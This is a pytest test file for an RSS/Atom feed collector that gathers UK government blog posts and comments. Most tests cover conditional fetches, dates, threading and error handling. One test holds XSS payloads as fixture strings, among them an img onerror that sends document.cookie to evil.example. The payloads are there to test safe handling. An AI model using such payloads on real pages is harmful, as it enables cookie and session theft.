"""The RSS/Atom collector against a loopback server: conditional GET, entries, errors."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from listener.collectors.base import Page, PostItem, Target
from listener.collectors.http import HttpClient, HttpSettings
from listener.collectors.rss import SEEN_LIMIT, RssCollector
from listener.errors import FatalSourceError, RetriableError
from listener.matching import WatchMatcher, WatchSpec
from tests.collectors.fakeserver import (
    FakeClock,
    FakeServer,
    Handler,
    Recorded,
    Reply,
    fake_server_fixture,  # noqa: F401 (a pytest fixture)
)

FEEDS = Path(__file__).resolve().parent.parent / "fixtures" / "feeds"
NOW = datetime(2026, 11, 12, 9, 0, tzinfo=UTC)
ETAG = '"64f2-5a1b3c"'
MODIFIED = "Wed, 11 Nov 2026 17:05:12 GMT"
RSS = "application/rss+xml; charset=UTF-8"
FAST = HttpSettings(connect_timeout=0.5, read_timeout=0.5, total_timeout=2.0, max_attempts=3)
POST_ID = "https://healthmedia.blog.gov.uk/?p=14208"


def feed_reply(
    body: str | bytes, *, content_type: str = RSS, etag: str = ETAG, modified: str = MODIFIED
) -> Reply:
    """A 200 with a fixture file's bytes (a name) or the given bytes, and its validators."""
    data = (FEEDS / body).read_bytes() if isinstance(body, str) else body
    headers = {"Content-Type": content_type, "ETag": etag, "Last-Modified": modified}
    return Reply(200, headers, data)


def honours_validators(reply: Reply) -> Handler:
    """A handler that answers 304 when the request's If-None-Match matches, as servers do."""

    def handler(request: Recorded) -> Reply:
        if request.headers.get("if-none-match") == reply.headers["ETag"]:
            return Reply(304, {"ETag": reply.headers["ETag"]})
        return reply

    return handler


def rss_with(*items: str) -> bytes:
    """A minimal RSS 2.0 document around the given <item> elements."""
    body = "".join(items)
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel>'
        f"<title>Test feed</title><link>https://example.gov.uk</link>{body}</channel></rss>"
    ).encode()


def atom_with(*entries: str) -> bytes:
    """A minimal Atom 1.0 document around the given <entry> elements."""
    body = "".join(entries)
    return (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>Test feed</title><id>urn:test</id><updated>2026-11-10T00:00:00Z</updated>"
        f"{body}</feed>"
    ).encode()


def target(url: str) -> Target:
    return Target(key=url, kind="feed", value=url, watch_ids=(1,))


def fetch(collector: RssCollector, url: str, cursor: str | None = None) -> Page:
    """Collect one feed and return its only page."""
    pages = list(collector.collect(target(url), cursor=cursor, now=NOW))
    assert len(pages) == 1
    return pages[0]


def by_id(page: Page) -> dict[str, PostItem]:
    return {post.native_id: post for post in page.posts}


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock(NOW)


@pytest.fixture
def collector(clock: FakeClock) -> Iterator[RssCollector]:
    # An empty base_url: feed watches are absolute URLs on many hosts.
    with HttpClient("", settings=FAST, clock=clock.clock()) as client:
        yield RssCollector(client=client)


def test_first_fetch_yields_every_blog_post_with_its_fields(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    url = f"{fake_server.url}/feed/"
    fake_server.script("/feed/", feed_reply("healthmedia-feed.xml"))
    page = fetch(collector, url)
    assert page.rejected == []
    posts = by_id(page)
    assert list(posts) == [POST_ID, "https://healthmedia.blog.gov.uk/?p=14187",
                           "https://healthmedia.blog.gov.uk/?p=14152"]  # fmt: skip
    post = posts[POST_ID]
    # Full content:encoded, not the excerpt in <description>; HTML as the feed gave it.
    assert post.text.startswith(
        "Media fact sheet: winter vaccination programme\n\n<p>Everyone eligible for a flu"
    )
    assert (
        "appointment &amp; get protected" in post.text and "<h2>Who is eligible?</h2>" in post.text
    )
    assert "Read more" not in post.text
    assert post.created_at == datetime(2026, 11, 11, 17, 5, 12, tzinfo=UTC)
    assert post.author is not None and post.author.handle == "DHSC Media Team"
    assert post.author.native_id == f"{url}#DHSC Media Team"
    assert (
        post.url
        == "https://healthmedia.blog.gov.uk/2026/11/11/media-fact-sheet-winter-vaccination-programme/"
    )
    assert (post.platform, post.kind, post.lang, post.source) == ("rss", "post", "en", url)
    assert post.reply_to_id is None and post.conversation_id == POST_ID
    assert post.metrics == {"reply_count": 2}
    # A post without content:encoded falls back to its description (a CDATA section, so its
    # character reference is text as given, for the browser to decode).
    last = posts["https://healthmedia.blog.gov.uk/?p=14152"]
    assert last.text == ("Waiting lists: October figures explained\n\n"
                         "<p>The waiting list for routine hospital treatment fell for the third month running &#8230;</p>")  # fmt: skip
    other = posts["https://healthmedia.blog.gov.uk/?p=14187"]
    assert other.author is not None and other.author.handle == "Priya Shah"


def test_first_fetch_keeps_the_raw_entry_and_the_validators(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    fake_server.script("/feed/", feed_reply("healthmedia-feed.xml"))
    page = fetch(collector, f"{fake_server.url}/feed/")
    raw = by_id(page)[POST_ID].raw
    assert json.loads(json.dumps(raw)) == raw  # plain JSON: struct_time dates became strings
    assert raw["published_parsed"] == "2026-11-11T17:05:12+00:00"
    assert [tag["term"] for tag in raw["tags"]] == ["Vaccination", "Winter"]
    assert raw["guidislink"] is False and raw["slash_comments"] == "2"
    cursor = json.loads(page.cursor or "")
    assert (cursor["etag"], cursor["last_modified"], len(cursor["seen"])) == (ETAG, MODIFIED, 3)
    sent = fake_server.requests_to("/feed/")[0].headers
    assert "application/rss+xml" in sent["accept"] and sent["user-agent"].startswith("listener/")
    assert "if-none-match" not in sent and "if-modified-since" not in sent


def test_unchanged_feed_is_fetched_conditionally_and_yields_nothing(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    url = f"{fake_server.url}/feed/"
    fake_server.handle("/feed/", honours_validators(feed_reply("healthmedia-feed.xml")))
    first = fetch(collector, url)
    second = fetch(collector, url, first.cursor)
    sent = fake_server.requests_to("/feed/")[1].headers
    assert (sent["if-none-match"], sent["if-modified-since"]) == (ETAG, MODIFIED)
    assert second.posts == [] and second.rejected == []
    assert second.cursor == first.cursor


def test_changed_feed_yields_only_the_new_entry(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    url = f"{fake_server.url}/feed/"
    original = (FEEDS / "healthmedia-feed.xml").read_text()
    new_item = """<item><title>Pharmacy First: one year on</title>
        <link>https://healthmedia.blog.gov.uk/2026/11/12/pharmacy-first-one-year-on/</link>
        <dc:creator><![CDATA[Priya Shah]]></dc:creator><pubDate>Thu, 12 Nov 2026 08:00:00 +0000</pubDate>
        <guid isPermaLink="false">https://healthmedia.blog.gov.uk/?p=14230</guid>
        <description><![CDATA[<p>A year of pharmacies treating common conditions.</p>]]></description></item>"""
    changed = original.replace("<item>", new_item + "\n<item>", 1).encode()
    fake_server.script(
        "/feed/",
        feed_reply("healthmedia-feed.xml"),
        feed_reply(changed, etag='"7a01"', modified="Thu, 12 Nov 2026 08:00:00 GMT"),
        # A server that ignores the validators and sends the whole feed again.
        feed_reply(changed, etag='"7a01"', modified="Thu, 12 Nov 2026 08:00:00 GMT"),
    )
    first = fetch(collector, url)
    second = fetch(collector, url, first.cursor)
    assert list(by_id(second)) == ["https://healthmedia.blog.gov.uk/?p=14230"]
    cursor = json.loads(second.cursor or "")
    assert (cursor["etag"], len(cursor["seen"])) == ('"7a01"', 4)
    third = fetch(collector, url, second.cursor)
    assert third.posts == [] and collector.report.skipped["unchanged"] == 3 + 4


def test_edited_entry_is_yielded_again_so_the_store_refreshes_it(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    url = f"{fake_server.url}/feed/"
    original = (FEEDS / "healthmedia-feed.xml").read_text()
    edited = original.replace(
        "fell for the third month running", "fell for the fourth month running"
    )
    fake_server.script(
        "/feed/", feed_reply("healthmedia-feed.xml"), feed_reply(edited.encode(), etag='"b2"')
    )
    first = fetch(collector, url)
    second = fetch(collector, url, first.cursor)
    assert [p.native_id for p in second.posts] == ["https://healthmedia.blog.gov.uk/?p=14152"]
    assert "fourth month running" in second.posts[0].text


def test_comments_feed_entries_are_replies_to_the_post(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    fake_server.script("/feed/", feed_reply("healthmedia-feed.xml"))
    fake_server.script("/comments/feed/", feed_reply("healthmedia-comments.xml"))
    post_ids = set(by_id(fetch(collector, f"{fake_server.url}/feed/")))
    url = f"{fake_server.url}/comments/feed/"
    comments = fetch(collector, url).posts
    assert [c.native_id for c in comments] == [f"{POST_ID}#comment-5821", f"{POST_ID}#comment-5822"]
    first = comments[0]
    assert first.text.startswith(
        "Comment on Media fact sheet: winter vaccination programme by Sam Okafor\n\n<p>My GP"
    )
    assert first.author is not None and first.author.handle == "Sam Okafor"
    assert first.url.endswith("/media-fact-sheet-winter-vaccination-programme/#comment-5821")
    assert first.created_at == datetime(2026, 11, 12, 8, 41, 3, tzinfo=UTC)
    for comment in comments:
        # The thread view links each comment to the post stored from the posts feed.
        assert (comment.kind, comment.reply_to_id, comment.source) == ("reply", POST_ID, url)
        assert comment.reply_to_id in post_ids and comment.conversation_id == POST_ID


def test_atom_comments_thread_through_in_reply_to(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    url = f"{fake_server.url}/comments/feed/atom/"
    fake_server.script(
        "/comments/feed/atom/",
        feed_reply("blog-comments.atom", content_type="application/atom+xml"),
    )
    posts = by_id(fetch(collector, url))
    post = "https://educationhub.blog.gov.uk/?p=30511"
    answer, question = posts[f"{post}#comment-9902"], posts[f"{post}#comment-9901"]
    assert (question.kind, question.reply_to_id) == ("reply", post)
    # thr:in-reply-to names the comment answered, not just the post.
    assert (answer.kind, answer.reply_to_id) == ("reply", f"{post}#comment-9901")
    assert answer.conversation_id == question.conversation_id == post
    assert answer.author is not None and answer.author.handle == "Education Media Team"
    assert answer.lang == "en" and answer.raw["thr_in-reply-to"]["ref"] == f"{post}#comment-9901"


def test_atom_feed_yields_entries_with_dates_authors_and_content(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    url = f"{fake_server.url}/search/news-and-communications.atom"
    fake_server.script("/search/news-and-communications.atom",
                       feed_reply("govuk-news.atom", content_type="application/atom+xml; charset=utf-8"))  # fmt: skip
    page = fetch(collector, url)
    statement, consultation = page.posts
    assert (
        statement.native_id
        == "tag:www.gov.uk,2005:/government/news/junior-doctors-strike-dates-announced#2026-11-11T17:30:00+00:00"
    )
    assert (
        statement.url == "https://www.gov.uk/government/news/junior-doctors-strike-dates-announced"
    )
    # No <published>: the entry's <updated> is its time; no <author>: the feed speaks.
    assert statement.created_at == datetime(2026, 11, 11, 17, 30, tzinfo=UTC)
    assert statement.author is not None
    assert statement.author.handle == "Department of Health and Social Care - Activity on GOV.UK"
    assert statement.text == ("Statement on junior doctors strike dates\n\n"
                              "Health and Social Care Secretary responds to the announcement of strike dates.")  # fmt: skip
    assert consultation.created_at == datetime(2026, 11, 10, 9, 30, tzinfo=UTC)  # published wins
    assert (
        consultation.author is not None
        and consultation.author.handle == "Adult Social Care Policy Team"
    )
    assert "<strong>charging reform</strong>" in consultation.text
    assert {p.kind for p in page.posts} == {"post"} and {p.lang for p in page.posts} == {"en"}


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        (rss_with("<item><guid>urn:a</guid><pubDate>Tue, 10 Nov 2026 16:30:05 +0000</pubDate></item>"), datetime(2026, 11, 10, 16, 30, 5, tzinfo=UTC)),
        (rss_with("<item><guid>urn:a</guid><pubDate>Tue, 10 Nov 2026 16:30:05 GMT</pubDate></item>"), datetime(2026, 11, 10, 16, 30, 5, tzinfo=UTC)),
        (rss_with("<item><guid>urn:a</guid><pubDate>Tue, 10 Nov 2026 17:30:05 +0100</pubDate></item>"), datetime(2026, 11, 10, 16, 30, 5, tzinfo=UTC)),
        (rss_with("<item><guid>urn:a</guid><pubDate>Tue, 10 Nov 2026 11:30:05 EST</pubDate></item>"), datetime(2026, 11, 10, 16, 30, 5, tzinfo=UTC)),
        (rss_with("<item><guid>urn:a</guid><pubDate>10 Nov 2026 16:30 +0000</pubDate></item>"), datetime(2026, 11, 10, 16, 30, tzinfo=UTC)),
        (atom_with("<entry><id>urn:a</id><published>2026-11-10T16:30:05Z</published></entry>"), datetime(2026, 11, 10, 16, 30, 5, tzinfo=UTC)),
        (atom_with("<entry><id>urn:a</id><published>2026-11-10T17:30:05+01:00</published></entry>"), datetime(2026, 11, 10, 16, 30, 5, tzinfo=UTC)),
        (atom_with("<entry><id>urn:a</id><updated>2026-11-10T08:30:05.250-08:00</updated></entry>"), datetime(2026, 11, 10, 16, 30, 5, tzinfo=UTC)),
        # No date, or one nobody can read: the time the entry was first collected.
        (rss_with("<item><guid>urn:a</guid></item>"), NOW),
        (rss_with("<item><guid>urn:a</guid><pubDate>next Tuesday</pubDate></item>"), NOW),
    ],
    ids=["rfc822-utc", "rfc822-gmt", "rfc822-offset", "rfc822-zone-name", "rfc822-short",
         "iso-z", "iso-offset", "iso-fraction", "no-date", "unreadable"],
)  # fmt: skip
def test_dates_in_rfc822_and_iso_formats_become_aware_utc(
    fake_server: FakeServer, collector: RssCollector, document: bytes, expected: datetime
) -> None:
    fake_server.script("/feed", feed_reply(document, content_type="application/xml"))
    (post,) = fetch(collector, f"{fake_server.url}/feed").posts
    assert post.created_at == expected and post.created_at.utcoffset() == timedelta(0)


def test_hostile_html_is_kept_verbatim_in_text_and_raw(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    fake_server.script("/hostile.xml", feed_reply("hostile.xml"))
    post = by_id(fetch(collector, f"{fake_server.url}/hostile.xml"))[
        "https://hostile.example/posts/1"
    ]
    script = '<script>alert("stolen " + document.cookie)</script>'
    img = '<img src="x" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">'
    assert post.text == ('Totally normal <b>news</b>\n\n<p>Hello</p>' + script + img
                         + '<a href="javascript:alert(1)">click</a>')  # fmt: skip
    assert script + img in post.raw["content"][0]["value"]
    assert post.raw["summary"] == "<p>Hello</p>" + script  # the escaped <description>, unescaped


def test_entry_without_id_or_link_is_rejected_and_the_rest_kept(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    url = f"{fake_server.url}/hostile.xml"
    fake_server.script(
        "/hostile.xml", feed_reply("hostile.xml"), feed_reply("hostile.xml", etag='"2"')
    )
    page = fetch(collector, url)
    (rejected,) = page.rejected
    assert rejected.location == f"{url}: entries[1]"
    assert rejected.reason == "entry has neither an id (guid) nor a link"
    assert rejected.raw["title"] == "An entry with neither guid nor link"
    assert json.loads(json.dumps(rejected.raw)) == rejected.raw
    # A bare guid is unique only within its feed, so the feed URL scopes it.
    assert set(by_id(page)) == {"https://hostile.example/posts/1", f"{url}#4711"}
    assert by_id(page)[f"{url}#4711"].created_at == NOW
    # The same broken entry next time is not quarantined a second time.
    again = fetch(collector, url, page.cursor)
    assert again.posts == [] and again.rejected == []


def test_overlong_link_becomes_a_bounded_stable_id(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    link = "https://news.example/articles?" + "&".join(f"utm_{i}=campaign{i}" for i in range(20))
    document = rss_with(
        f"<item><title>Long</title><link>{link.replace('&', '&amp;')}</link></item>"
    )
    fake_server.script("/feed", feed_reply(document), feed_reply(document))
    first = fetch(collector, f"{fake_server.url}/feed").posts[0]
    again = fetch(collector, f"{fake_server.url}/feed").posts[0]
    assert len(link) > 200 and first.url == link
    assert len(first.native_id) <= 200 and first.native_id == again.native_id
    assert first.native_id.startswith(link[:150])


def test_html_error_page_with_200_fails_with_a_one_line_reason(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>Service unavailable - GOV.UK Blogs</title></head>
<body><h1>Sorry, the service is unavailable</h1><p>You will be able to use the service later.</p></body></html>"""
    fake_server.script("/feed/", Reply.text(page, content_type="text/html"))
    url = f"{fake_server.url}/feed/"
    with pytest.raises(FatalSourceError) as caught:
        fetch(collector, url)
    assert str(caught.value) == (
        f"{url}: not an RSS or Atom feed "
        "(text/html; charset=utf-8: 'Service unavailable - GOV.UK Blogs')"
    )


def test_feed_cut_short_is_retriable_and_yields_nothing(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    body = (FEEDS / "healthmedia-feed.xml").read_bytes()
    # The server says the body is whole (Content-Length matches), but the XML stops.
    fake_server.script("/feed/", feed_reply(body[: len(body) * 2 // 3]))
    with pytest.raises(
        RetriableError, match=r"/feed/: the feed stops mid-document \(.+\); cut short in transit\?$"
    ):
        fetch(collector, f"{fake_server.url}/feed/")


def test_empty_body_is_retriable(fake_server: FakeServer, collector: RssCollector) -> None:
    fake_server.script("/feed/", feed_reply(b""))
    with pytest.raises(RetriableError, match="empty body"):
        fetch(collector, f"{fake_server.url}/feed/")


def test_server_errors_and_cut_downloads_are_retried_by_the_http_layer(
    fake_server: FakeServer, collector: RssCollector, clock: FakeClock
) -> None:
    whole = feed_reply("healthmedia-feed.xml")
    fake_server.script("/feed/", Reply(status=500), Reply.truncated(whole), whole)
    page = fetch(collector, f"{fake_server.url}/feed/")
    assert len(page.posts) == 3
    assert (
        len(fake_server.requests_to("/feed/")) == 3 and len(clock.sleeps) == 2
    )  # no real sleeping


def test_body_naming_a_local_file_is_parsed_as_text_not_opened(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    # feedparser opens a bare str or bytes argument that names a file; we hand it a stream.
    path = str(FEEDS / "healthmedia-feed.xml").encode()
    fake_server.script("/feed/", Reply(200, {"Content-Type": "text/plain"}, path))
    with pytest.raises(FatalSourceError, match="not an RSS or Atom feed"):
        fetch(collector, f"{fake_server.url}/feed/")


def test_feed_served_with_a_wrong_content_type_is_still_read(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    fake_server.script(
        "/feed/", feed_reply("healthmedia-feed.xml", content_type="text/html; charset=utf-8")
    )
    assert len(fetch(collector, f"{fake_server.url}/feed/").posts) == 3
    assert collector.report.notes == []


def test_feed_with_junk_after_it_is_read_with_a_note(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    # A PHP warning printed after </rss>, as a broken WordPress plugin does.
    body = (FEEDS / "healthmedia-feed.xml").read_bytes() + b"\n<b>Warning</b>: Undefined variable"
    url = f"{fake_server.url}/feed/"
    fake_server.script("/feed/", feed_reply(body))
    assert len(fetch(collector, url).posts) == 3
    (note,) = collector.report.notes
    assert note.startswith(f"{url}: read past an error in the feed (") and "junk after" in note


def test_unreadable_cursor_fetches_in_full_with_a_note(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    url = f"{fake_server.url}/feed/"
    fake_server.script("/feed/", feed_reply("healthmedia-feed.xml"))
    page = fetch(collector, url, cursor="since_id=12345")
    assert len(page.posts) == 3
    assert "if-none-match" not in fake_server.requests_to("/feed/")[0].headers
    assert collector.report.notes == [
        f"{url}: cursor unreadable (Expecting value: line 1 column 1 (char 0)); fetched in full"
    ]


def test_seen_set_is_bounded_and_keeps_every_entry_still_in_the_feed(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    old = [f"{n:016x}" for n in range(SEEN_LIMIT + 100)]
    cursor = json.dumps({"v": 1, "etag": None, "last_modified": None, "seen": old})
    fake_server.script("/feed/", feed_reply("healthmedia-feed.xml"))
    page = fetch(collector, f"{fake_server.url}/feed/", cursor)
    seen = json.loads(page.cursor or "")["seen"]
    assert len(seen) == SEEN_LIMIT
    assert seen[3:] == old[: SEEN_LIMIT - 3]  # this fetch's three first, then the newest old ones
    assert len(page.posts) == 3


def test_max_entries_caps_entries_per_fetch(fake_server: FakeServer, clock: FakeClock) -> None:
    fake_server.script("/feed/", feed_reply("healthmedia-feed.xml"))
    with HttpClient("", settings=FAST, clock=clock.clock()) as client:
        collector = RssCollector(client=client, max_entries=2)
        page = fetch(collector, f"{fake_server.url}/feed/")
    assert [p.native_id for p in page.posts] == [
        POST_ID,
        "https://healthmedia.blog.gov.uk/?p=14187",
    ]
    assert collector.report.skipped == {"beyond max_entries": 1}


def test_targets_group_one_url_watched_by_two_departments(collector: RssCollector) -> None:
    blog = "https://healthmedia.blog.gov.uk/feed/"
    other = "https://educationhub.blog.gov.uk/feed/"
    watches = [
        WatchSpec(id=7, department_id=1, kind="feed", value=blog),
        WatchSpec(id=3, department_id=2, kind="feed", value=blog),
        WatchSpec(id=5, department_id=2, kind="feed", value=other),
        WatchSpec(id=9, department_id=1, kind="hashtag", value="#NHS"),
    ]
    assert collector.targets(watches) == [
        Target(key=blog, kind="feed", value=blog, watch_ids=(3, 7)),
        Target(key=other, kind="feed", value=other, watch_ids=(5,)),
    ]


def test_collected_posts_match_their_feed_watch(
    fake_server: FakeServer, collector: RssCollector
) -> None:
    url = f"{fake_server.url}/feed/"
    fake_server.script("/feed/", feed_reply("healthmedia-feed.xml"))
    watch = WatchSpec(id=1, department_id=1, kind="feed", value=url)
    elsewhere = WatchSpec(id=2, department_id=1, kind="feed", value=f"{fake_server.url}/other/")
    matcher = WatchMatcher([watch, elsewhere])
    assert [matcher.match(post) for post in fetch(collector, url).posts] == [[watch]] * 3
